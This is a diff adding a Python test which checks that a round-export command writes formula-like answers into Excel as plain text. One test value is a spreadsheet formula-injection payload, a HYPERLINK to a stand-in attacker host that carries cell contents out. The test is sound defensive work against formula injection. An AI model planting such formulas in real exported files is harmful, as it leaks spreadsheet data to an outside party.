@@ -65,3 +65,18 @@ def test_export_unknown_round(app, db):
     seed(db)
     res = app.test_cli_runner().invoke(args=["export-round", "2569-nope", "--out", "x.xlsx"])
     assert res.exit_code != 0 and "no round" in res.output
+
+
+def test_answers_that_look_like_formulas_stay_text(app, db, tmp_path):
+    w = seed(db, items=1)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "=1+1", "@SUM(A1:A2)"]
+    with db() as s:
+        rnd = svc.get_round(s, R6)
+        draft = svc.open_draft(s, rnd, w.b1, None)
+        svc.save_draft(s, draft, {"items": {str(w.items[0]): dict(zip(("done", "result", "problems"), hostile))}})
+        svc.submit(s, rnd, w.b1, None, datetime(2026, 3, 10, 7, 5, tzinfo=timezone.utc), counts={})
+    out = tmp_path / "report.xlsx"
+    assert app.test_cli_runner().invoke(args=["export-round", R6, "--out", str(out)]).exit_code == 0
+    row = load_workbook(out)["B1"][11]
+    assert [c.value for c in row[6:9]] == hostile
+    assert all(c.data_type == "s" for c in row[6:9])  # text cells, not formulas
